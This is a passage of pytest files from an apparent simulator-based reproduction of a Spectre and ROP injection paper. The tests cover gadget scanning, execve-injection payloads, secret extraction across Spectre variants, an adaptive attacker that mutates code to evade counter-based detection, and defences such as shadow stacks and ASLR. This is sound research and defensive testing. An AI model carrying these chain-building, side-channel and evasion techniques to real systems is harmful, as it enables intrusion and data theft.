            build_payload([1], 0, fill_bytes=104, canary=1,
                          canary_offset=104)

    def test_minimum_fill(self):
        with pytest.raises(AttackError):
            build_payload([1], 0, fill_bytes=4)

    def test_describe(self):
        payload = build_payload([1], 0x1234, strings={"p": b"x"})
        text = payload.describe()
        assert "0x00001234" in text
