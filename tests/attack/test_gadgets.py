"""Gadget scanner tests."""

import pytest

from repro.attack.gadgets import GadgetScanner, scan_program
from repro.errors import GadgetNotFoundError
from repro.isa.encoding import encode_program
from repro.isa.instruction import Instruction
from repro.isa.opcodes import Opcode
from repro.isa.registers import A0, A1, A2, T0
from repro.kernel.loader import build_binary


def _image(instructions, base=0x1000):
    return GadgetScanner(encode_program(instructions), base)


class TestScan:
    def test_finds_bare_ret(self):
        scanner = _image([Instruction(Opcode.RET)])
        gadgets = scanner.scan()
        assert any(g.length == 1 and g.address == 0x1000 for g in gadgets)

    def test_suffixes_are_distinct_gadgets(self):
        scanner = _image([
            Instruction(Opcode.POP, rd=A0),
            Instruction(Opcode.POP, rd=A1),
            Instruction(Opcode.RET),
        ])
        addresses = {g.address for g in scanner.scan()}
        assert addresses == {0x1000, 0x1008, 0x1010}

    def test_control_flow_breaks_gadget(self):
        scanner = _image([
            Instruction(Opcode.POP, rd=A0),
            Instruction(Opcode.JMP, imm=16),
            Instruction(Opcode.RET),
        ])
        # The pop cannot reach the ret through the jmp.
        assert all(
            g.instructions[0].opcode != Opcode.POP for g in scanner.scan()
        )

    def test_max_length_respected(self):
        body = [Instruction(Opcode.NOP)] * 10 + [Instruction(Opcode.RET)]
        scanner = GadgetScanner(encode_program(body), 0, max_gadget_length=3)
        assert max(g.length for g in scanner.scan()) <= 3

    def test_scan_cached(self):
        scanner = _image([Instruction(Opcode.RET)])
        assert scanner.scan() is scanner.scan()

    def test_undecodable_bytes_skipped(self):
        blob = b"\xff" * 8 + encode_program([Instruction(Opcode.RET)])
        scanner = GadgetScanner(blob, 0)
        assert len(scanner.scan()) == 1


class TestQueries:
    def test_find_pop_sequence(self):
        scanner = _image([
            Instruction(Opcode.POP, rd=A0),
            Instruction(Opcode.POP, rd=A1),
            Instruction(Opcode.RET),
        ])
        gadget = scanner.find_pop_sequence([A0, A1])
        assert gadget.address == 0x1000
        assert gadget.stack_words_consumed == 2

    def test_find_pop_sequence_missing(self):
        scanner = _image([Instruction(Opcode.RET)])
        with pytest.raises(GadgetNotFoundError):
            scanner.find_pop_sequence([A0])

    def test_find_pop_register_shortest(self):
        scanner = _image([
            Instruction(Opcode.POP, rd=T0),
            Instruction(Opcode.POP, rd=A0),
            Instruction(Opcode.RET),
            Instruction(Opcode.POP, rd=A0),
            Instruction(Opcode.RET),
        ])
        gadget = scanner.find_pop_register(A0)
        assert gadget.length == 2  # the short 'pop a0; ret'

    def test_find_pop_register_wrong_last_pop(self):
        scanner = _image([
            Instruction(Opcode.POP, rd=A0),
            Instruction(Opcode.POP, rd=A1),
            Instruction(Opcode.RET),
        ])
        # last pop targets a1, so there is no a0-loading gadget
        with pytest.raises(GadgetNotFoundError):
            scanner.find_pop_register(A2)

    def test_find_syscall(self):
        scanner = _image([
            Instruction(Opcode.NOP),
            Instruction(Opcode.SYSCALL),
            Instruction(Opcode.RET),
        ])
        assert scanner.find_syscall_ret() == 0x1008

    def test_report_readable(self):
        scanner = _image([
            Instruction(Opcode.POP, rd=A0),
            Instruction(Opcode.RET),
        ])
        report = scanner.report()
        assert "pop a0; ret" in report


class TestRealImage:
    def test_libc_provides_enough_gadgets(self):
        program = build_binary("t", "main:\n halt")
        scanner = scan_program(program, 0x400000)
        assert scanner.gadget_count() > 10
        scanner.find_pop_sequence([A0, A1])  # the execve chain's needs
        scanner.find_syscall_ret()

    def test_gadget_addresses_track_base(self):
        program = build_binary("t", "main:\n halt")
        low = scan_program(program, 0x400000).find_pop_sequence([A0, A1])
        high = scan_program(program, 0x800000).find_pop_sequence([A0, A1])
        assert high.address - low.address == 0x400000
