"""End-to-end ROP injection tests: the paper's Figure 1 flow."""

import pytest

from repro.attack import (
    SpectreConfig,
    build_spectre,
    plan_execve_injection,
    plan_shellcode_injection,
)
from repro.cpu import CpuConfig
from repro.errors import ProtectionFault, ShadowStackViolation
from repro.kernel import ProcessState, System
from repro.workloads import get_workload
from tests.conftest import SECRET


@pytest.fixture(scope="module")
def staged():
    """System with host + attack installed, plus the injection plan."""
    system = System(seed=11, target_data=SECRET)
    host = get_workload("basicmath").build(iterations=40, hosted=True)
    attack = build_spectre(
        "v1", SpectreConfig(secret_length=len(SECRET), repeats=1)
    )
    system.install_binary("/bin/host", host)
    system.install_binary("/bin/cr", attack)
    plan = plan_execve_injection(host, "/bin/host", "/bin/cr")
    return system, host, plan


class TestInjectionPlan:
    def test_chain_uses_real_gadget(self, staged):
        _, _, plan = staged
        assert plan.chain.num_words == 4  # pop a0; pop a1; ret path
        assert "pop a0; pop a1; ret" in plan.chain.describe()

    def test_payload_contains_attack_path(self, staged):
        _, _, plan = staged
        assert b"/bin/cr\x00" in plan.payload.blob

    def test_describe(self, staged):
        _, _, plan = staged
        text = plan.describe()
        assert "execve(/bin/cr)" in text


class TestInjectionExecution:
    def test_full_secret_exfiltration(self, staged):
        system, _, plan = staged
        process = system.spawn("/bin/host", argv=plan.argv)
        process.run_to_completion(max_instructions=20_000_000)
        assert process.image_name == "spectre_v1-plain"
        assert bytes(process.stdout) == SECRET

    def test_pid_and_pmu_preserved(self, staged):
        system, _, plan = staged
        process = system.spawn("/bin/host", argv=plan.argv)
        pid = process.pid
        process.run_to_completion(max_instructions=20_000_000)
        assert process.pid == pid
        # PMU evidence of the pre-execve host phase remains.
        assert process.pmu.counters["instructions"] > 0

    def test_without_payload_host_is_benign(self, staged):
        system, _, _ = staged
        process = system.spawn("/bin/host")
        process.run_to_completion(max_instructions=20_000_000)
        assert process.image_name.startswith("basicmath")
        assert process.stdout == bytearray()


class TestCountermeasures:
    def test_dep_blocks_shellcode(self, staged):
        system, _, _ = staged
        blob, buffer_address = plan_shellcode_injection("/bin/host")
        process = system.spawn("/bin/host", argv=[blob])
        process.run_to_completion()
        assert isinstance(process.fault, ProtectionFault)
        assert process.fault.address == buffer_address

    def test_shadow_stack_kills_chain(self, staged):
        _, host, plan = staged
        guarded = System(seed=11, target_data=SECRET,
                         cpu_config=CpuConfig(shadow_stack=True))
        guarded.install_binary("/bin/host", host)
        process = guarded.spawn("/bin/host", argv=plan.argv)
        process.run_to_completion()
        assert isinstance(process.fault, ShadowStackViolation)

    def test_aslr_breaks_payload(self, staged):
        _, host, plan = staged
        attack = build_spectre(
            "v1", SpectreConfig(secret_length=len(SECRET), repeats=1)
        )
        randomized = System(seed=77, target_data=SECRET, aslr=True)
        randomized.install_binary("/bin/host", host)
        randomized.install_binary("/bin/cr", attack)
        process = randomized.spawn("/bin/host", argv=plan.argv)
        process.run_to_completion(max_instructions=20_000_000)
        # Gadget/stack addresses no longer line up: no exfiltration.
        assert bytes(process.stdout) != SECRET

    def test_canary_host_aborts_blind_payload(self):
        system = System(seed=11, target_data=SECRET)
        host = get_workload("basicmath").build(
            iterations=40, canary=0x5EC2E7
        )
        attack = build_spectre(
            "v1", SpectreConfig(secret_length=len(SECRET), repeats=1)
        )
        system.install_binary("/bin/host", host)
        system.install_binary("/bin/cr", attack)
        plan = plan_execve_injection(host, "/bin/host", "/bin/cr",
                                     assume_canary=True)
        process = system.spawn("/bin/host", argv=plan.argv)
        process.run_to_completion()
        assert process.exit_code == 97  # canary abort

    def test_leaked_canary_bypasses(self):
        system = System(seed=11, target_data=SECRET)
        host = get_workload("basicmath").build(
            iterations=40, canary=0x5EC2E7
        )
        attack = build_spectre(
            "v1", SpectreConfig(secret_length=len(SECRET), repeats=1)
        )
        system.install_binary("/bin/host", host)
        system.install_binary("/bin/cr", attack)
        plan = plan_execve_injection(host, "/bin/host", "/bin/cr",
                                     canary_value=0x5EC2E7)
        process = system.spawn("/bin/host", argv=plan.argv)
        process.run_to_completion(max_instructions=20_000_000)
        assert bytes(process.stdout) == SECRET
