"""Host-portability sweep: the paper claims the technique "is not bound
to host application" — every MiBench host must be exploitable with the
exact same planning code."""

import pytest

from repro.attack import SpectreConfig, build_spectre, plan_execve_injection
from repro.attack.gadgets import scan_program
from repro.isa.registers import A0, A1
from repro.kernel import System
from repro.mem.layout import AddressSpaceLayout
from repro.workloads import MIBENCH, get_workload

SECRET = b"PORTABLE"

ALL_HOSTS = [w.name for w in MIBENCH]
# The full exfiltration is exercised on a representative subset to keep
# the suite fast; gadget availability is asserted for every host.
LEAK_HOSTS = ("bitcount", "sha", "dijkstra", "rijndael")


class TestGadgetAvailability:
    @pytest.mark.parametrize("host", ALL_HOSTS)
    def test_every_host_image_has_the_chain_gadgets(self, host):
        program = get_workload(host).build(iterations=50, hosted=True)
        scanner = scan_program(program, AddressSpaceLayout().text_base)
        scanner.find_pop_sequence([A0, A1])
        scanner.find_syscall_ret()
        assert program.has_symbol("libc_execve")


class TestCrossHostExploitation:
    @pytest.mark.parametrize("host", LEAK_HOSTS)
    def test_injection_leaks_from_host(self, host):
        system = System(seed=17, target_data=SECRET)
        program = get_workload(host).build(iterations=50, hosted=True)
        attack = build_spectre("v1", SpectreConfig(
            secret_length=len(SECRET), repeats=1,
        ))
        system.install_binary(f"/bin/{host}", program)
        system.install_binary("/bin/cr", attack)
        plan = plan_execve_injection(program, f"/bin/{host}", "/bin/cr")
        process = system.spawn(f"/bin/{host}", argv=plan.argv)
        process.run_to_completion(max_instructions=40_000_000)
        assert bytes(process.stdout) == SECRET, (host, process.fault)

    @pytest.mark.parametrize("host", LEAK_HOSTS)
    def test_same_host_without_payload_is_clean(self, host):
        system = System(seed=17, target_data=SECRET)
        program = get_workload(host).build(iterations=10, hosted=True)
        system.install_binary(f"/bin/{host}", program)
        process = system.spawn(f"/bin/{host}")
        process.run_to_completion(max_instructions=40_000_000)
        assert process.fault is None
        assert process.stdout == bytearray()
