"""Algorithm-2 codegen and adaptive-controller tests."""

import random

import pytest
from hypothesis import given, settings, strategies as st

from repro.attack.adaptive import AdaptiveAttacker
from repro.attack.perturb import (
    DELAY_STYLES,
    PerturbParams,
    mutate,
    perturb_source,
    random_params,
)
from repro.kernel import build_binary
from tests.conftest import run_source


class TestCodegen:
    def test_paper_defaults_in_source(self):
        source = perturb_source(PerturbParams())
        assert ".word 11" in source      # int a = 11
        assert ".word 6" in source       # int b = 6
        assert "clflush" in source
        assert "mfence" in source

    def test_extra_loops_emitted(self):
        source = perturb_source(PerturbParams(extra_loops=2))
        assert "pt_cell_x0" in source
        assert "pt_cell_x1" in source

    def test_no_delay_no_loop(self):
        assert "pt_delay" not in perturb_source(PerturbParams(delay=0))

    @pytest.mark.parametrize("style", range(len(DELAY_STYLES)))
    def test_styles_produce_distinct_code(self, style):
        source = perturb_source(PerturbParams(delay=10, style=style))
        assert f'style "{DELAY_STYLES[style]}"' in source

    def test_routine_assembles_and_runs(self):
        source = (
            "main:\n    call pt_perturb\n    li a0, 0\n    call libc_exit\n"
            + perturb_source(PerturbParams(loop_count=5, delay=20,
                                           extra_loops=1))
        )
        process = run_source(source)
        assert process.exit_code == 0

    def test_flush_count_scales_with_loop_count(self):
        def flushes(params):
            source = (
                "main:\n    call pt_perturb\n    halt\n"
                + perturb_source(params)
            )
            process = run_source(source)
            return process.pmu.read()["clflush_instructions"]

        small = flushes(PerturbParams(loop_count=4))
        large = flushes(PerturbParams(loop_count=20))
        assert large > small

    def test_prefix_namespacing(self):
        source = perturb_source(PerturbParams(), prefix="zz")
        assert "zz_perturb:" in source
        assert "pt_perturb" not in source


class TestMutation:
    @settings(max_examples=30, deadline=None)
    @given(st.integers(min_value=0, max_value=10_000))
    def test_mutate_stays_in_valid_ranges(self, seed):
        rng = random.Random(seed)
        params = PerturbParams()
        for _ in range(10):
            params = mutate(params, rng)
            assert params.loop_count > 0
            assert params.delay >= 0
            assert params.calls_per_byte >= 1
            assert 0 <= params.style < len(DELAY_STYLES)
            # Mutated variants must still assemble.
        build_binary("m", "main:\n halt\n" + perturb_source(params))

    def test_mutation_is_seeded(self):
        a = mutate(PerturbParams(), random.Random(5))
        b = mutate(PerturbParams(), random.Random(5))
        assert a == b

    def test_random_params_valid(self):
        for seed in range(10):
            params = random_params(random.Random(seed))
            assert params.loop_count >= 4


class TestAdaptiveAttacker:
    def test_stands_still_when_evading(self):
        attacker = AdaptiveAttacker(seed=1)
        before = attacker.propose()
        attacker.feedback(0.30)
        assert attacker.propose() == before

    def test_mutates_when_detected(self):
        attacker = AdaptiveAttacker(seed=1)
        before = attacker.propose()
        attacker.feedback(0.95)
        assert attacker.propose() != before

    def test_history_records_attempts(self):
        attacker = AdaptiveAttacker(seed=1)
        attacker.feedback(0.9)
        attacker.feedback(0.4)
        assert [r.evaded for r in attacker.history] == [False, True]
        assert attacker.evaded_yet

    def test_best_tracked(self):
        attacker = AdaptiveAttacker(seed=1)
        attacker.feedback(0.9)
        attacker.feedback(0.6)
        attacker.feedback(0.8)
        assert attacker.best[0] == 0.6

    def test_hill_climb_restarts_from_best(self):
        attacker = AdaptiveAttacker(seed=1)
        attacker.feedback(0.70)
        good = attacker.history[0].params
        attacker.feedback(0.99)  # worse: next proposal derives from best
        # (cannot assert exact equality after mutation; assert lineage
        # via the recorded best)
        assert attacker.best[1] == good

    def test_restart_random(self):
        attacker = AdaptiveAttacker(seed=1)
        first = attacker.propose()
        restarted = attacker.restart_random()
        assert restarted == attacker.propose()
        assert restarted != first
