"""Every Spectre variant must genuinely recover the secret."""

import pytest

from repro.attack import (
    PerturbParams,
    SPECTRE_VARIANTS,
    SpectreConfig,
    build_spectre,
)
from repro.kernel import System
from tests.conftest import SECRET

VARIANTS = sorted(SPECTRE_VARIANTS)


def _leak(variant, perturb=None, secret=SECRET, seed=21, **config_kwargs):
    system = System(seed=seed, target_data=secret)
    config = SpectreConfig(
        secret_length=len(secret), repeats=1, perturb=perturb,
        **config_kwargs,
    )
    system.install_binary("/bin/a", build_spectre(variant, config))
    process = system.spawn("/bin/a")
    process.run_to_completion(max_instructions=60_000_000)
    return bytes(process.stdout), process


class TestExtraction:
    @pytest.mark.parametrize("variant", VARIANTS)
    def test_full_secret_recovered(self, variant):
        leaked, process = _leak(variant)
        assert leaked == SECRET, (variant, leaked, process.fault)

    @pytest.mark.parametrize("variant", VARIANTS)
    def test_recovers_different_secret(self, variant):
        secret = b"0123456789abcdef"
        leaked, _ = _leak(variant, secret=secret)
        assert leaked == secret

    def test_repeats_emit_multiple_passes(self):
        system = System(seed=21, target_data=SECRET)
        config = SpectreConfig(secret_length=len(SECRET), repeats=3)
        system.install_binary("/bin/a", build_spectre("v1", config))
        process = system.spawn("/bin/a")
        process.run_to_completion(max_instructions=60_000_000)
        assert bytes(process.stdout) == SECRET * 3


class TestPerturbedExtraction:
    """Algorithm 2 must not break the exfiltration itself."""

    @pytest.mark.parametrize("variant", VARIANTS)
    def test_paper_default_params(self, variant):
        leaked, _ = _leak(variant, perturb=PerturbParams())
        assert leaked == SECRET

    @pytest.mark.parametrize("style", (0, 1, 2))
    def test_dispersion_styles(self, style):
        params = PerturbParams(delay=300, style=style, calls_per_byte=2)
        leaked, _ = _leak("v1", perturb=params)
        assert leaked == SECRET


class TestHpcSignatures:
    def test_plain_spectre_is_flush_heavy(self):
        _, process = _leak("v1")
        snap = process.pmu.read()
        # 256 probe flushes + 1 size flush per secret byte
        assert snap["clflush_instructions"] >= 257 * len(SECRET)
        assert snap["l1d_misses"] > 1000

    def test_variants_have_distinct_mechanisms(self):
        _, v1 = _leak("v1")
        _, rsb = _leak("rsb")
        _, btb = _leak("btb")
        v1_snap, rsb_snap = v1.pmu.read(), rsb.pmu.read()
        btb_snap = btb.pmu.read()
        # v1 mistrains the conditional predictor; RSB abuses returns;
        # BTB poisons indirect-branch targets.
        assert v1_snap["cond_branch_mispredictions"] >= len(SECRET)
        assert rsb_snap["return_mispredictions"] >= len(SECRET)
        assert btb_snap["indirect_mispredictions"] >= len(SECRET)

    def test_perturbation_changes_signature(self):
        _, plain = _leak("v1")
        _, burst = _leak("v1", perturb=PerturbParams(loop_count=20,
                                                     extra_loops=3,
                                                     calls_per_byte=3))
        plain_flushes = plain.pmu.read()["clflush_instructions"]
        burst_flushes = burst.pmu.read()["clflush_instructions"]
        assert burst_flushes > plain_flushes * 1.2


class TestConfigKnobs:
    def test_more_training_rounds_still_work(self):
        leaked, _ = _leak("v1", training_rounds=12)
        assert leaked == SECRET

    def test_wider_stride(self):
        leaked, _ = _leak("v1", stride=128)
        assert leaked == SECRET

    def test_unknown_variant_rejected(self):
        with pytest.raises(KeyError):
            build_spectre("v9", SpectreConfig())


class TestInvisibleSpeculationDefense:
    """The InvisiSpec-style CPU option blanks every variant's channel."""

    @pytest.mark.parametrize("variant", VARIANTS)
    def test_no_variant_leaks(self, variant):
        from repro.cpu import CpuConfig

        system = System(seed=21, target_data=SECRET,
                        cpu_config=CpuConfig(invisible_speculation=True))
        config = SpectreConfig(secret_length=len(SECRET), repeats=1)
        system.install_binary("/bin/a", build_spectre(variant, config))
        process = system.spawn("/bin/a")
        process.run_to_completion(max_instructions=60_000_000)
        leaked = bytes(process.stdout)
        correct = sum(a == b for a, b in zip(leaked, SECRET))
        assert correct <= 2, (variant, leaked)


class TestEvictReload:
    """Evict+reload: the attacker's answer to the privileged-clflush
    countermeasure — no flush instruction anywhere in the binary."""

    def test_leaks_without_clflush(self):
        leaked, process = _leak("v1", flush_method="evict",
                                secret=b"Words!")
        assert leaked == b"Words!"
        assert process.pmu.read()["clflush_instructions"] == 0

    def test_defeats_privileged_clflush(self):
        from repro.cpu import CpuConfig

        secret = b"Words!"
        system = System(seed=21, target_data=secret,
                        cpu_config=CpuConfig(clflush_privileged=True))
        config = SpectreConfig(secret_length=len(secret), repeats=1,
                               flush_method="evict")
        system.install_binary("/bin/a", build_spectre("v1", config))
        process = system.spawn("/bin/a")
        process.run_to_completion(max_instructions=120_000_000)
        assert bytes(process.stdout) == secret

    def test_clflush_variant_blocked_by_same_countermeasure(self):
        from repro.cpu import CpuConfig
        from repro.errors import PrivilegeFault

        secret = b"Words!"
        system = System(seed=21, target_data=secret,
                        cpu_config=CpuConfig(clflush_privileged=True))
        config = SpectreConfig(secret_length=len(secret), repeats=1)
        system.install_binary("/bin/a", build_spectre("v1", config))
        process = system.spawn("/bin/a")
        process.run_to_completion(max_instructions=120_000_000)
        assert isinstance(process.fault, PrivilegeFault)

    def test_invalid_flush_method_rejected(self):
        with pytest.raises(ValueError):
            SpectreConfig(flush_method="prime_probe")
