"""Unit tests for the Tomasulo bookkeeping structures."""

import pytest

from repro.uarch import (
    LoadStoreQueue,
    RegisterStatus,
    ReorderBuffer,
    ReservationStations,
    RobEntry,
)


def _entry(seq, wrong_path=False, completion=0.0):
    return RobEntry(seq, pc=seq * 8, op=0, kind="alu",
                    completion=completion, wrong_path=wrong_path)


class TestReorderBuffer:
    def test_capacity_and_free_slots(self):
        rob = ReorderBuffer(3)
        assert rob.free_slots() == 3
        rob.append(_entry(0))
        rob.append(_entry(1))
        assert rob.free_slots() == 1
        assert not rob.full
        rob.append(_entry(2))
        assert rob.full
        assert rob.free_slots() == 0

    def test_commit_is_fifo(self):
        rob = ReorderBuffer(4)
        for seq in range(3):
            rob.append(_entry(seq))
        assert rob.head().seq == 0
        assert [rob.pop_head().seq for _ in range(3)] == [0, 1, 2]
        assert len(rob) == 0

    def test_wrong_path_never_commits(self):
        rob = ReorderBuffer(4)
        rob.append(_entry(0, wrong_path=True))
        with pytest.raises(AssertionError, match="commit port"):
            rob.pop_head()

    def test_squash_drops_only_the_wrong_path_tail(self):
        rob = ReorderBuffer(8)
        rob.append(_entry(0))
        rob.append(_entry(1))
        rob.append(_entry(2, wrong_path=True))
        rob.append(_entry(3, wrong_path=True))
        assert rob.squash_tail() == 2
        assert [entry.seq for entry in rob] == [0, 1]
        # Idempotent once the tail is clean.
        assert rob.squash_tail() == 0


class TestRegisterStatus:
    def test_checkpoint_restore_round_trip(self):
        rat = RegisterStatus(4)
        good = _entry(0)
        rat.set(1, good)
        snapshot = rat.checkpoint()
        rat.set(1, _entry(1, wrong_path=True))
        rat.set(2, _entry(2, wrong_path=True))
        rat.restore(snapshot)
        assert rat.producers[1] is good
        assert rat.producers[2] is None

    def test_retire_clears_only_the_current_producer(self):
        rat = RegisterStatus(4)
        old = _entry(0)
        new = _entry(1)
        rat.set(3, old)
        rat.set(3, new)         # renamed again before `old` commits
        rat.retire(3, old)      # stale retire must not clobber `new`
        assert rat.producers[3] is new
        rat.retire(3, new)
        assert rat.producers[3] is None


class TestReservationStations:
    def test_acquire_stalls_until_an_entry_frees(self):
        rs = ReservationStations({"alu": 2})
        rs.issue("alu", 10.0)
        rs.issue("alu", 20.0)
        # Pool full at t=5: dispatch slips to the earliest completion.
        assert rs.acquire("alu", 5.0) == 10.0
        rs.issue("alu", 12.0)          # takes the freed slot: [20, 12]
        assert rs.acquire("alu", 11.0) == 12.0  # still full at t=11
        assert rs.acquire("alu", 13.0) == 13.0  # 12.0 completed by now

    def test_kinds_are_independent(self):
        rs = ReservationStations({"alu": 1, "mem": 1})
        rs.issue("alu", 10.0)
        assert rs.acquire("mem", 1.0) == 1.0


class TestLoadStoreQueue:
    def test_release_matches_the_head_seq(self):
        lsq = LoadStoreQueue(4)
        lsq.push(0, 5.0)
        lsq.push(1, 6.0)
        lsq.release(1)          # not the head: ignored
        assert len(lsq) == 2
        lsq.release(0)
        lsq.release(1)
        assert len(lsq) == 0

    def test_full(self):
        lsq = LoadStoreQueue(1)
        assert not lsq.full
        lsq.push(0, 1.0)
        assert lsq.full
