"""The out-of-order core: architectural equivalence, ROB invariants,
and the transient covert channel.

The OoO core must be *architecturally* indistinguishable from the
in-order reference (same registers, memory effects, instruction counts,
program output for the same binary) while telling a genuinely different
*timing* story — and its speculation window must be bounded by reorder-
buffer depth, not by the in-order core's fixed ``spec_window``.
"""

import pytest

from repro.attack import SPECTRE_VARIANTS, SpectreConfig, build_spectre
from repro.kernel import System, build_binary
from repro.uarch import OooParams
from repro.workloads import get_workload
from tests.conftest import SECRET, run_source

VARIANTS = sorted(SPECTRE_VARIANTS)

#: Short MiBench kernels, long enough to exercise branches, the divider,
#: memory traffic and syscalls on both cores.
KERNELS = (("basicmath", 30), ("sha", 4))


def _run_kernel(name, iterations, uarch, uarch_params=None):
    system = System(seed=7, uarch=uarch, uarch_params=uarch_params)
    workload = get_workload(name)
    system.install_binary("/bin/w", workload.build(iterations=iterations))
    process = system.spawn("/bin/w")
    process.run_to_completion()
    return process


@pytest.fixture(scope="module", params=KERNELS, ids=lambda k: k[0])
def kernel_pair(request):
    name, iterations = request.param
    return (name,
            _run_kernel(name, iterations, "inorder"),
            _run_kernel(name, iterations, "ooo"))


class TestArchitecturalEquivalence:
    def test_same_architectural_outcome(self, kernel_pair):
        name, inorder, ooo = kernel_pair
        assert ooo.exit_code == inorder.exit_code, name
        assert bytes(ooo.stdout) == bytes(inorder.stdout), name
        assert ooo.cpu.state.regs == inorder.cpu.state.regs, name

    def test_same_instruction_counts(self, kernel_pair):
        name, inorder, ooo = kernel_pair
        ooo_pmu = ooo.cpu.pmu.read()
        inorder_pmu = inorder.cpu.pmu.read()
        assert ooo_pmu["instructions"] == inorder_pmu["instructions"], name

    def test_committed_state_drained(self, kernel_pair):
        """After a run every uop has committed: the architectural view
        equals the rename file and the ROB is empty."""
        name, _, ooo = kernel_pair
        assert ooo.cpu.arch_regs == ooo.cpu.state.regs, name
        assert len(ooo.cpu.rob) == 0, name


class TestTimingDiverges:
    def test_ooo_overlaps_memory_latency(self):
        """sha is load/store heavy: dataflow scheduling must beat the
        in-order core's serial stall accounting by a wide margin."""
        name, iterations = "sha", 4
        inorder = _run_kernel(name, iterations, "inorder")
        ooo = _run_kernel(name, iterations, "ooo")
        assert ooo.cpu.cycles < inorder.cpu.cycles

    def test_cycles_deterministic(self):
        first = _run_kernel("basicmath", 10, "ooo")
        second = _run_kernel("basicmath", 10, "ooo")
        assert first.cpu.cycles == second.cpu.cycles
        assert first.cpu.pmu.read() == second.cpu.pmu.read()


SPEC_LOOP = """
main:
    li   t0, 0
loop:
    slti t1, t0, 6
    beq  t1, zero, done   ; mispredicts at loop exit
    addi t0, t0, 1
    jmp  loop
done:
    halt
"""


def _run_ooo(source, uarch_params=None, commit_log=None,
             max_instructions=5_000_000):
    system = System(seed=9, target_data=SECRET, uarch="ooo",
                    uarch_params=uarch_params)
    program = build_binary("testprog", source)
    system.install_binary("/bin/testprog", program)
    process = system.spawn("/bin/testprog")
    if commit_log is not None:
        process.cpu.commit_log = commit_log
    process.run_to_completion(max_instructions=max_instructions)
    return process


class TestRobInvariants:
    def test_commit_is_in_order_and_never_wrong_path(self):
        log = []
        process = _run_ooo(SPEC_LOOP, commit_log=log)
        assert process.cpu.pmu.read()["spec_instructions"] > 0
        assert log, "nothing committed"
        seqs = [seq for seq, _pc, _wrong in log]
        assert seqs == sorted(seqs)
        assert len(seqs) == len(set(seqs))
        assert not any(wrong for _seq, _pc, wrong in log), \
            "a wrong-path uop reached the commit port"

    def test_rob_drains_at_halt(self):
        process = _run_ooo(SPEC_LOOP)
        assert len(process.cpu.rob) == 0
        assert process.cpu.arch_regs == process.cpu.state.regs

    def test_every_wrong_path_uop_is_squashed(self):
        snap = _run_ooo(SPEC_LOOP).pmu.read()
        assert snap["spec_instructions"] > 0
        assert snap["squashed_instructions"] == snap["spec_instructions"]


class TestSquash:
    def test_wrong_path_stores_squashed(self):
        process = _run_ooo("""
        main:
            li   t0, 0
        mistrain:
            slti t1, t0, 4
            beq  t1, zero, strike
            addi t0, t0, 1
            jmp  mistrain
        strike:
            li   t2, 5
            slti t1, t0, 4
            bne  t1, zero, poison     ; never architecturally taken
            jmp  check
        poison:
            la   t3, cell
            li   t1, 666
            sw   t1, 0(t3)
            jmp  check
        check:
            la   t3, cell
            lw   a0, 0(t3)
            call libc_exit
        .data
        cell: .word 42
        """)
        assert process.exit_code == 42  # the poison store never commits

    def test_wrong_path_register_writes_squashed(self):
        """After the mispredicted loop exit the wrong path would run
        ``addi t0``: the committed value must be the trained count."""
        process = _run_ooo("""
        main:
            li   t0, 0
        loop:
            slti t1, t0, 6
            beq  t1, zero, done
            addi t0, t0, 1
            jmp  loop
        done:
            mov  a0, t0
            call libc_exit
        """)
        assert process.exit_code == 6


PROBE_SOURCE = r"""
main:
    li   a2, 6
train:
    beq  a2, zero, flush
    li   a0, 1
    call victim
    addi a2, a2, -1
    jmp  train
flush:
    la   t1, probe
    clflush 0(t1)
    mfence
    li   a0, 1000          ; out of bounds
    call victim
    la   t1, probe
    mfence
    rdcycle gp
    lw   t2, 0(t1)
    rdcycle lr
    sub  a0, lr, gp
    call libc_exit

victim:
    la   t0, size
    lw   t0, 0(t0)
    bgeu a0, t0, victim_ret
    la   t1, probe         ; wrong-path load fills the probe line
    lw   t2, 0(t1)
victim_ret:
    ret

.data
size: .word 8
    .align 6
probe: .word 0
"""


class TestCovertChannel:
    def test_wrong_path_fill_persists(self):
        process = _run_ooo(PROBE_SOURCE)
        latency = process.exit_code
        assert latency < 50, (
            f"probe reload took {latency} cycles; the speculative fill "
            f"did not persist"
        )
        assert process.pmu.read()["spec_cache_fills"] > 0

    def test_rob_depth_one_disables_the_channel(self):
        """With a single ROB slot there are no free slots at the branch
        — the transient window is gone, exactly like spec_window=0 on
        the in-order core."""
        process = _run_ooo(PROBE_SOURCE,
                           uarch_params=OooParams(rob_depth=1))
        assert process.exit_code > 50


class TestSpectreOnOoo:
    def _leak(self, variant, uarch_params=None):
        system = System(seed=21, target_data=SECRET, uarch="ooo",
                        uarch_params=uarch_params)
        config = SpectreConfig(secret_length=len(SECRET), repeats=1)
        system.install_binary("/bin/a", build_spectre(variant, config))
        process = system.spawn("/bin/a")
        process.run_to_completion(max_instructions=60_000_000)
        return bytes(process.stdout), process

    @pytest.mark.parametrize("variant", VARIANTS)
    def test_full_secret_recovered(self, variant):
        leaked, process = self._leak(variant)
        assert leaked == SECRET, (variant, leaked, process.fault)

    def test_rob_depth_is_the_speculation_budget(self):
        leaked, _ = self._leak("v1", uarch_params=OooParams(rob_depth=1))
        assert leaked != SECRET


class TestPipelineCounters:
    """The ``ooo.*`` telemetry: cheap counters behind the metrics
    registry, spans behind their own trace categories."""

    def _traced(self, source, categories=None, **kwargs):
        from repro.obs.tracer import TraceConfig, Tracer, activate

        tracer = Tracer(TraceConfig(categories=categories))
        with activate(tracer):
            process = _run_ooo(source, **kwargs)
        tracer.finalize()
        return process, tracer

    def test_rob_occupancy_histogram_and_squash_counters(self):
        _, tracer = self._traced(SPEC_LOOP)
        snapshot = tracer.metrics.snapshot()
        hist = snapshot["histograms"]["ooo.rob.occupancy"]
        assert hist["count"] > 0
        assert sum(hist["buckets"]) == hist["count"]
        counters = snapshot["counters"]
        assert counters["ooo.squashes"] > 0
        assert counters["ooo.wrong_path_uops"] > 0
        # The squash counter agrees with the PMU's own accounting.
        process, tracer = self._traced(SPEC_LOOP)
        counters = tracer.metrics.snapshot()["counters"]
        assert counters["ooo.wrong_path_uops"] == \
            process.cpu.pmu.read()["squashed_instructions"]

    def test_spec_window_depth_observed_per_squash(self):
        _, tracer = self._traced(SPEC_LOOP)
        snapshot = tracer.metrics.snapshot()
        window = snapshot["histograms"]["ooo.spec.window"]
        assert window["count"] == \
            snapshot["counters"]["ooo.squashes"]

    def test_ooo_spans_only_with_their_categories(self):
        _, full = self._traced(SPEC_LOOP)
        squashes = [r for r in full.records
                    if r["cat"] == "ooo.squash"]
        assert squashes, "no squash spans on a mispredicting loop"
        for record in squashes:
            assert record["ph"] == "X"
            assert record["args"]["uops"] > 0
